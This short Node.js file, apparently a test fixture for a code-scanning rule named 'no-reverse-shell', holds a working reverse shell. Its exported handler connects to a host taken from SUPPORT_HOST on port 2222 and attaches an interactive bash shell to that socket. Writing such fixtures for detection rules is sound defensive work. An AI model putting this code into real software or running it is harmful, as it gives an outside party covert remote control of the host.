const net = require('node:net');
const cp = require('node:child_process');

module.exports.handler = async () => {
  const sock = net.createConnection({ host: process.env.SUPPORT_HOST, port: 2222 });
  // expect: code/no-reverse-shell
  cp.spawn('bash', ['-i'], { stdio: [sock, sock, sock] });
};
